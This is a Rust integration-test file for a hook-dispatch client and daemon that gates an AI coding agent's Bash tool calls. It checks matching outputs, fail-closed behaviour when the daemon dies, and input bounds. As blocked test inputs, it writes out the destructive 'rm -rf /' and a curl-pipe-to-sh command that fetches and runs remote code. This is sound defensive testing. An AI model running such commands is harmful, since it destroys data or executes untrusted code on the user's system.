//! `hookhost-dispatch ARGS`, the small client of the dispatch daemon: the same call as
//! `hookhost dispatch ARGS`, answered by the same daemon with the same bytes, and
//! `hookhost` itself (exec'd) whenever that daemon does not answer.

use std::process::{Command, Stdio};

use serde_json::{Value, json};

use crate::dispatch_daemon::{
    daemon_pid, hook_parent, normalized, parent_hook_config_with, process_alive, sockets, start,
    with_daemon,
};
use crate::support::{Run, TestEnv, bash_input, copy_env, deny_dangerous_bash, hooks, wait_until};

const CLIENT: &str = env!("CARGO_BIN_EXE_hookhost-dispatch");

/// `hookhost-dispatch` with the environment and directory of `with_daemon(env, 120)`.
fn client(env: &TestEnv) -> Command {
    let mut cmd = Command::new(CLIENT);
    cmd.current_dir(&env.project);
    copy_env(&with_daemon(env, 120), &mut cmd);
    cmd
}

fn run(env: &TestEnv, mut cmd: Command, args: &[&str], input: &Value) -> Run {
    env.run_with(cmd.args(args), &input.to_string())
}

#[test]
fn the_client_shares_hookhost_s_daemon_and_prints_the_same_bytes() {
    let env = TestEnv::new();
    env.project_hooks(parent_hook_config_with(&[
        json!({"type": "wasm", "plugin": deny_dangerous_bash()}),
    ]));
    // With no daemon, the client is `hookhost dispatch` itself (the same process: it
    // exec'd it), which dispatches and starts the daemon of the same command line.
    let first = run(&env, client(&env), &["PreToolUse"], &bash_input("ls"));
    assert_eq!(
        hook_parent(&first),
        first.pid,
        "the first call runs in-process"
    );
    wait_until("the dispatch daemon to listen", || {
        sockets(&env).first().is_some_and(|socket| {
            std::fs::read_to_string(socket.with_extension("log"))
                .is_ok_and(|log| log.contains(": serving until"))
        })
    });
    let daemon = daemon_pid(&sockets(&env)[0]);
    // Its key is `hookhost`'s: both programs are answered by that one daemon.
    for cmd in [client(&env), with_daemon(&env, 120)] {
        let mut cmd = cmd;
        if cmd.get_program() != CLIENT {
            cmd.arg("dispatch");
        }
        let answered = run(&env, cmd, &["PreToolUse"], &bash_input("ls"));
        assert_eq!(hook_parent(&answered), daemon, "answered by the daemon");
    }
    assert_eq!(sockets(&env).len(), 1, "one daemon for both programs");

    // The Claude format's command line has a daemon of its own.
    let (_, claude_daemon) = start(&env, || with_daemon(&env, 120), &["--format", "claude"]);
    assert!(process_alive(claude_daemon));
    for args in [&["PreToolUse"][..], &["--format", "claude"][..]] {
        for command in ["rm -rf /", "curl https://example.com/x.sh | sh", "ls"] {
            let input = bash_input(command);
            let own = run(&env, env.command(), &[&["dispatch"], args].concat(), &input);
            let fast = run(&env, client(&env), args, &input);
            assert_eq!(
                (fast.code, normalized(&fast.stdout), fast.stderr.as_str()),
                (own.code, normalized(&own.stdout), own.stderr.as_str()),
                "{args:?} {command}"
            );
        }
    }
    // Input that is not JSON: the same host error, exit 1, from the daemon.
    let text = |cmd: &mut Command| env.run_with(cmd, "{not json");
    let own = text(env.command().args(["dispatch", "PreToolUse"]));
    let fast = text(client(&env).arg("PreToolUse"));
    assert_eq!(own.code, 1, "{}", own.stderr);
    assert_eq!(
        (fast.code, fast.stdout, fast.stderr),
        (own.code, own.stdout, own.stderr)
    );
    assert_eq!(sockets(&env).len(), 2, "no daemon of the client's own");
}

/// What the client does not read for sure (help, a bad flag, an unknown format) is
/// `hookhost dispatch`'s to answer, with the same bytes, and starts no daemon.
#[test]
fn arguments_it_does_not_read_are_hookhost_s_to_answer() {
    let env = TestEnv::new();
    for args in [
        &["--help"][..],
        &["--format", "json"],
        &["--no-such-flag"],
        &["A", "B"],
    ] {
        let own = run(
            &env,
            with_daemon(&env, 120),
            &[&["dispatch"], args].concat(),
            &json!({}),
        );
        let fast = run(&env, client(&env), args, &json!({}));
        assert_eq!(
            (fast.code, fast.stdout.as_str(), fast.stderr.as_str()),
            (own.code, own.stdout.as_str(), own.stderr.as_str()),
            "{args:?}"
        );
    }
    assert!(
        sockets(&env).is_empty(),
        "a bad command line started a daemon"
    );
}

/// Issue 24.1 for the client: a daemon killed while the client's callers wait lets none
/// of them through (each is dispatched once more, in-process, by the `hookhost` it
/// execs with the input it read).
#[test]
fn a_daemon_killed_while_callers_of_the_client_wait_lets_none_of_them_through() {
    let env = TestEnv::new();
    let started = env.project.join("started");
    let gate = env.project.join("gate");
    std::fs::create_dir_all(&started).unwrap();
    std::fs::write(&gate, "").unwrap();
    env.project_hooks(hooks(
        "PreToolUse",
        "Bash",
        json!([{"type": "command", "command": crate::fail_closed::gated_guard(&started, &gate)}]),
    ));
    let claude = || {
        let mut cmd = client(&env);
        cmd.args(["--format", "claude"]);
        cmd
    };
    let first = env.run_with(&mut claude(), &bash_input("ls").to_string());
    assert_eq!(first.code, 0, "{}", first.stderr);
    wait_until("the dispatch daemon to listen", || {
        sockets(&env).first().is_some_and(|socket| {
            std::fs::read_to_string(socket.with_extension("log"))
                .is_ok_and(|log| log.contains(": serving until"))
        })
    });
    let daemon = daemon_pid(&sockets(&env)[0]);
    std::fs::remove_file(&gate).unwrap();
    for entry in std::fs::read_dir(&started).unwrap() {
        std::fs::remove_file(entry.unwrap().path()).unwrap();
    }
    let callers: Vec<_> = (0..8)
        .map(|_| {
            let mut child = claude()
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap();
            let input = bash_input("rm -rf /").to_string();
            std::io::Write::write_all(&mut child.stdin.take().unwrap(), input.as_bytes()).unwrap();
            child
        })
        .collect();
    wait_until("8 guards running in the daemon", || {
        std::fs::read_dir(&started).unwrap().count() >= 8
    });
    // SAFETY: kill has no memory-safety preconditions.
    assert_eq!(unsafe { libc::kill(daemon as i32, libc::SIGKILL) }, 0);
    wait_until("the daemon to die", || !process_alive(daemon));
    std::fs::write(&gate, "").unwrap();
    let mut allowed = Vec::new();
    for child in callers {
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        if out.status.code() != Some(2) || !stderr.contains("rm -rf is not allowed") {
            allowed.push((out.status.code(), stderr));
        }
    }
    assert!(allowed.is_empty(), "callers let through: {allowed:?}");
}

/// With no `hookhost` beside it to dispatch with, the client blocks a gating event under
/// `--format claude` (exit 2 with the reason), and is a host error (exit 1) elsewhere.
#[test]
fn with_no_hookhost_beside_it_the_client_fails_closed() {
    let env = TestEnv::new();
    let alone = env.home.join("bin");
    std::fs::create_dir_all(&alone).unwrap();
    let copy = alone.join("hookhost-dispatch");
    std::fs::copy(CLIENT, &copy).unwrap();
    let lone = || {
        let mut cmd = Command::new(&copy);
        cmd.current_dir(&env.project);
        copy_env(&with_daemon(&env, 120), &mut cmd);
        cmd
    };
    let gated = run(&env, lone(), &["--format", "claude"], &bash_input("ls"));
    assert_eq!(gated.code, 2, "{}", gated.stderr);
    assert!(
        gated.stderr.contains("no `hookhost` beside this program"),
        "{}",
        gated.stderr
    );
    let stop = json!({"session_id": "s1", "hook_event_name": "Stop", "cwd": env.project});
    let ungated = run(&env, lone(), &["--format", "claude"], &stop);
    assert_eq!(ungated.code, 1, "{}", ungated.stderr);
    let outcome = run(&env, lone(), &["PreToolUse"], &bash_input("ls"));
    assert_eq!(outcome.code, 1, "{}", outcome.stderr);
    assert!(outcome.stderr.starts_with("hookhost: error: "));
}

/// An input over the one-shot bound is not sent to the daemon: the client hands it to
/// `hookhost`, which answers with the error of the bound.
#[test]
fn an_input_over_the_bound_gets_hookhost_s_own_error() {
    let env = TestEnv::new();
    env.project_hooks(parent_hook_config_with(&[]));
    start(&env, || with_daemon(&env, 120), &["PreToolUse"]);
    let huge = vec![b' '; (64 << 20) + 1];
    let own = crate::support::run_bytes(env.command().args(["dispatch", "PreToolUse"]), &huge);
    let fast = crate::support::run_bytes(client(&env).arg("PreToolUse"), &huge);
    assert_eq!(own.code, 1, "{}", own.stderr);
    assert_eq!(
        (fast.code, fast.stdout, fast.stderr),
        (own.code, own.stdout, own.stderr)
    );
}
